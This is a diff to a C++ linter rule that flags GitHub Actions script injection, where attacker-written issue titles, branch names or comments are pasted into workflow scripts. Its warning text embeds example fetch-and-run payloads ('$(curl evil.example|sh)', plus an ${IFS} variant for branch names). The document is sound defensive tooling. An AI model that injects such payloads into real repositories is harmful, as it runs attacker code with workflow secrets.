@@ -1,8 +1,10 @@
 #include <algorithm>
 #include <array>
+#include <string>
 
 #include "rules/delivery_check.h"
 #include "rules/rule.h"
+#include "text/one_of.h"
 
 namespace fastidious::rules {
 namespace {
@@ -13,41 +15,69 @@ using deploy::Workflow;
 using deploy::WorkflowJob;
 using deploy::WorkflowStep;
 
+using Events = std::array<std::string_view, 6>;
+
+constexpr Events kIssues = {"issues", "issue_comment"};
+constexpr Events kPullRequests = {"pull_request_target", "pull_request_review",
+                                  "pull_request_review_comment", "pull_request"};
+constexpr Events kHeads = {"pull_request_target", "pull_request"};
+constexpr Events kComments = {"issue_comment", "commit_comment", "discussion_comment",
+                              "pull_request_review_comment"};
+constexpr Events kReviews = {"pull_request_review"};
+constexpr Events kReviewComments = {"pull_request_review_comment"};
+constexpr Events kPages = {"gollum"};
+constexpr Events kPushes = {"push"};
+constexpr Events kDiscussions = {"discussion", "discussion_comment"};
+constexpr Events kRuns = {"workflow_run"};
+
 // What strangers write
-// (https://docs.github.com/en/actions/concepts/security/script-injections).
-constexpr std::array<std::string_view, 21> kUntrusted = {
-    "github.head_ref",
-    "github.event.issue.title",
-    "github.event.issue.body",
-    "github.event.pull_request.title",
-    "github.event.pull_request.body",
-    "github.event.pull_request.head.ref",
-    "github.event.pull_request.head.label",
-    "github.event.pull_request.head.repo.default_branch",
-    "github.event.comment.body",
-    "github.event.review.body",
-    "github.event.review_comment.body",
-    "github.event.pages.*.page_name",
-    "github.event.commits.*.message",
-    "github.event.commits.*.author.email",
-    "github.event.commits.*.author.name",
-    "github.event.head_commit.message",
-    "github.event.head_commit.author.email",
-    "github.event.head_commit.author.name",
-    "github.event.discussion.title",
-    "github.event.discussion.body",
-    "github.event.workflow_run.head_branch",
+// (https://docs.github.com/en/actions/concepts/security/script-injections), and the events that
+// carry it (https://docs.github.com/en/webhooks/webhook-events-and-payloads): in the runs of others
+// it is empty.
+struct Untrusted {
+  std::string_view reference;
+  const Events* events;
+  std::string_view noun, variable;
+};
+constexpr std::array kUntrusted = {
+    Untrusted{"github.head_ref", &kHeads, "branch name", "BRANCH"},
+    Untrusted{"github.event.issue.title", &kIssues, "title", "TITLE"},
+    Untrusted{"github.event.issue.body", &kIssues, "text", "BODY"},
+    Untrusted{"github.event.pull_request.title", &kPullRequests, "title", "TITLE"},
+    Untrusted{"github.event.pull_request.body", &kPullRequests, "text", "BODY"},
+    Untrusted{"github.event.pull_request.head.ref", &kPullRequests, "branch name", "BRANCH"},
+    Untrusted{"github.event.pull_request.head.label", &kPullRequests, "branch name", "BRANCH"},
+    Untrusted{"github.event.pull_request.head.repo.default_branch", &kPullRequests, "branch name",
+              "BRANCH"},
+    Untrusted{"github.event.comment.body", &kComments, "comment", "BODY"},
+    Untrusted{"github.event.review.body", &kReviews, "review", "BODY"},
+    Untrusted{"github.event.review_comment.body", &kReviewComments, "comment", "BODY"},
+    Untrusted{"github.event.pages.*.page_name", &kPages, "page's name", "PAGE"},
+    Untrusted{"github.event.commits.*.message", &kPushes, "commit message", "MESSAGE"},
+    Untrusted{"github.event.commits.*.author.email", &kPushes, "author's address", "AUTHOR"},
+    Untrusted{"github.event.commits.*.author.name", &kPushes, "author's name", "AUTHOR"},
+    Untrusted{"github.event.head_commit.message", &kPushes, "commit message", "MESSAGE"},
+    Untrusted{"github.event.head_commit.author.email", &kPushes, "author's address", "AUTHOR"},
+    Untrusted{"github.event.head_commit.author.name", &kPushes, "author's name", "AUTHOR"},
+    Untrusted{"github.event.discussion.title", &kDiscussions, "title", "TITLE"},
+    Untrusted{"github.event.discussion.body", &kDiscussions, "text", "BODY"},
+    Untrusted{"github.event.workflow_run.head_branch", &kRuns, "branch name", "BRANCH"},
 };
 
-bool is_untrusted(const std::string& reference) {
-  return std::find(kUntrusted.begin(), kUntrusted.end(), reference) != kUntrusted.end();
-}
-
-// `toJSON(github.event.commits)`: a part of it is, whose quotes end those of the shell.
-bool holds_untrusted(const std::string& reference) {
-  return std::any_of(kUntrusted.begin(), kUntrusted.end(), [&](std::string_view one) {
-    return one.starts_with(reference) && one.substr(reference.size()).starts_with('.');
-  });
+// Runs for pull requests of forks have neither secrets nor a token that may write; who may push has
+// both anyway.
+bool is_open(std::string_view event) {
+  constexpr std::array<std::string_view, 10> kOpen = {"pull_request_target",
+                                                      "workflow_run",
+                                                      "issues",
+                                                      "issue_comment",
+                                                      "discussion",
+                                                      "discussion_comment",
+                                                      "pull_request_review",
+                                                      "pull_request_review_comment",
+                                                      "gollum",
+                                                      "commit_comment"};
+  return is_one_of(event, kOpen);
 }
 
 bool writes_json(std::string_view expression) {
@@ -55,68 +85,118 @@ bool writes_json(std::string_view expression) {
   return std::find(functions.begin(), functions.end(), "tojson") != functions.end();
 }
 
-// Runs for pull requests of forks have neither secrets nor a token that may write; who may push has
-// both anyway.
-bool is_harmless_trigger(const Workflow& workflow) {
-  for (std::string_view event :
-       {"pull_request_target", "workflow_run", "issues", "issue_comment", "discussion",
-        "discussion_comment", "pull_request_review", "pull_request_review_comment", "gollum"}) {
-    if (workflow.is_triggered_by(event)) return false;
-  }
-  return true;
+constexpr int kMaxCalls = 4;  // workflows that call each other are followed so far
+
+bool calls(const Read<Workflow>& caller, const Read<Workflow>& called) {
+  const auto& jobs = caller.content.jobs;
+  return std::any_of(jobs.begin(), jobs.end(), [&](const WorkflowJob& job) {
+    return job.uses.starts_with("./") && job.uses.substr(2) == called.file->path;
+  });
 }
 
-// Whether some workflow of the repository that strangers start calls this one.
-bool has_open_caller(const DeliveryCheck& check, const Read<Workflow>& workflow, int depth) {
+// Whether the event starts the workflow, or one of the repository that calls it.
+bool is_started_by(const DeliveryCheck& check, const Read<Workflow>& workflow,
+                   std::string_view event, int depth = 0) {
+  if (workflow.content.is_triggered_by(event)) return true;
+  if (depth >= kMaxCalls || !workflow.content.is_triggered_by("workflow_call")) return false;
   const auto& all = check.delivery().manifests().workflows;
-  return depth < 4 && std::any_of(
-                          all.begin(), all.end(),
-                          [&](const Read<Workflow>& other) {
-                            const auto& jobs = other.content.jobs;
-                            const bool calls =
-                                std::any_of(jobs.begin(), jobs.end(), [&](const WorkflowJob& job) {
-                                  return job.uses.starts_with("./") &&
-                                         job.uses.substr(2) == workflow.file->path;
-                                });
-                            return calls && (!is_harmless_trigger(other.content) ||
-                                             has_open_caller(check, other, depth + 1));
-                          });
+  return std::any_of(all.begin(), all.end(), [&](const Read<Workflow>& other) {
+    return calls(other, workflow) && is_started_by(check, other, event, depth + 1);
+  });
 }
 
-// Only by hand or by the clock: there is no event that a stranger wrote.
-bool is_started_by_hand(const Workflow& workflow) {
-  const bool hand =
-      workflow.is_triggered_by("workflow_dispatch") || workflow.is_triggered_by("schedule");
-  const bool called = workflow.is_triggered_by("workflow_call");
-  return hand && !called && is_harmless_trigger(workflow) && !workflow.is_triggered_by("push") &&
-         !workflow.is_triggered_by("pull_request") && !workflow.is_triggered_by("merge_group");
+bool is_called_here(const DeliveryCheck& check, const Read<Workflow>& workflow) {
+  const auto& all = check.delivery().manifests().workflows;
+  return std::any_of(all.begin(), all.end(),
+                     [&](const Read<Workflow>& other) { return calls(other, workflow); });
+}
+
+// How a text of strangers gets into the script: by which event, and with what rights.
+struct Way {
+  enum class Kind : std::uint8_t { None, Uncalled, Closed, Open } kind = Kind::None;
+  std::string_view event;
+  const Untrusted* text = nullptr;
+};
+
+Way way_of(const DeliveryCheck& check, const Read<Workflow>& workflow, const Untrusted& text) {
+  Way way;
+  way.text = &text;
+  for (std::string_view event : *text.events) {
+    if (event.empty() || !is_started_by(check, workflow, event)) continue;
+    const Way::Kind kind = is_open(event) ? Way::Kind::Open : Way::Kind::Closed;
+    if (kind > way.kind) way = {kind, event, &text};
+  }
+  const bool waits = way.kind == Way::Kind::None &&
+                     workflow.content.is_triggered_by("workflow_call") &&
+                     !is_called_here(check, workflow);
+  if (waits) way = {Way::Kind::Uncalled, text.events->front(), &text};
+  return way;
+}
+
+// The most open way of what the reference holds; of `toJSON(github.event.commits)` a part is a
+// text of strangers, whose quotes end those of the shell.
+Way way_of(const DeliveryCheck& check, const Read<Workflow>& workflow, const std::string& reference,
+           bool is_json) {
+  Way best;
+  for (const Untrusted& one : kUntrusted) {
+    const bool part = is_json && one.reference.starts_with(reference) &&
+                      one.reference.substr(reference.size()).starts_with('.');
+    if (one.reference != reference && !part) continue;
+    const Way way = way_of(check, workflow, one);
+    if (way.kind > best.kind) best = way;
+  }
+  return best;
+}
+
+std::string_view example_of(const Untrusted& text) {
+  return text.variable == "BRANCH" ? "$(curl${IFS}evil.example|sh)" : "$(curl evil.example|sh)";
+}
+
+void word(Draft& draft, const Read<Workflow>& workflow, const Way& way) {
+  const Untrusted& text = *way.text;
+  if (way.kind == Way::Kind::Open) {
+    if (!workflow.content.is_triggered_by(way.event)) draft.confidence(Confidence::Medium);
+    draft.risk(
+        "Expressions are replaced before the script starts: on `{}` a {} such as `{}` runs with "
+        "the workflow's secrets and its token.",
+        {way.event, text.noun, example_of(text)});
+  } else if (way.kind == Way::Kind::Uncalled) {
+    draft.severity(Severity::Suggestion).confidence(Confidence::Medium);
+    draft.risk(
+        "Nothing in this repository calls it; the first workflow that does on `{}` runs a {} such "
+        "as `{}` with its secrets.",
+        {way.event, text.noun, example_of(text)});
+  } else if (way.event == "push") {
+    draft.severity(Severity::Warning);
+    draft.risk(
+        "With a stranger's commit that is merged, a {} such as `{}` runs on the runner, with the "
+        "secrets and the token of the push.",
+        {text.noun, example_of(text)});
+  } else {
+    draft.severity(Severity::Warning);
+    draft.risk(
+        "A {} such as `{}` runs on the runner. For pull requests of forks it has no secrets and a "
+        "token that only reads; a colleague's branch has both.",
+        {text.noun, example_of(text)});
+  }
 }
 
 void check_text(DeliveryCheck& check, const Read<Workflow>& workflow, const MappedText& text,
                 std::string_view where) {
   for (const deploy::Expression& expression : deploy::expressions_in(text.text())) {
+    const bool is_json = writes_json(expression.text);
     for (const std::string& reference : deploy::references_in(expression.text)) {
-      const bool whole = writes_json(expression.text) && holds_untrusted(reference);
-      if (!is_untrusted(reference) && !whole) continue;
+      const Way way = way_of(check, workflow, reference, is_json);
+      if (way.kind == Way::Kind::None) continue;
       Draft draft = check.report(*workflow.file, text.place(expression.span),
                                  "`{}`, which strangers write, is pasted into the {} as code",
                                  {expression.text, where});
-      if (!is_harmless_trigger(workflow.content)) continue;
-      if (workflow.content.is_triggered_by("workflow_call")) {
-        draft.confidence(Confidence::Medium);  // whoever calls it decides
-        if (has_open_caller(check, workflow, 0)) continue;
-        draft.severity(Severity::Warning)
-            .risk(
-                "Nothing in this repository calls it for strangers; the first workflow that does, "
-                "on "
-                "`issue_comment` or `pull_request_target`, lets them run code with its secrets.");
-        continue;
-      }
-      draft.severity(Severity::Warning)
-          .risk(
-              "A title such as `$(curl evil.example|sh)` runs on the runner. For pull requests of "
-              "forks "
-              "it has no secrets and a token that only reads; a colleague's branch has both.");
+      word(draft, workflow, way);
+      const std::string_view variable = way.text->variable;
+      const bool shell = where.starts_with("shell");
+      draft.fix(
+          "Hand it over as data: `env: { {}: ${{ {} }} }` in the step, and `{}{}{}` in the script.",
+          {variable, expression.text, shell ? "\"$" : "process.env.", variable, shell ? "\"" : ""});
     }
   }
 }
@@ -163,7 +243,6 @@ void check_checkout(DeliveryCheck& check, const Read<Workflow>& workflow, const 
 
 void check(DeliveryCheck& check) {
   for (const Read<Workflow>& workflow : check.delivery().manifests().workflows) {
-    if (is_started_by_hand(workflow.content)) continue;
     for (const WorkflowJob& job : workflow.content.jobs) {
       for (const WorkflowStep& step : job.steps) {
         check_step(check, workflow, step);
@@ -218,8 +297,9 @@ jobs:
           TITLE: ${{ github.event.issue.title }}
 ```
 
-A warning where only `push` and `pull_request` start the workflow: forks get neither secrets nor a token that may write. Inputs of
-`workflow_dispatch` come from who may push anyway and are left out.
+A warning where only `push` and `pull_request` carry the text: forks get neither secrets nor a token that may write. A suggestion in a
+reusable workflow that nothing here calls. What none of the workflow's events carries is empty and left alone (`github.head_ref` in a
+run by hand), and so are inputs of `workflow_dispatch`, which come from who may push anyway.
 )md",
     .on_delivery = check,
 };
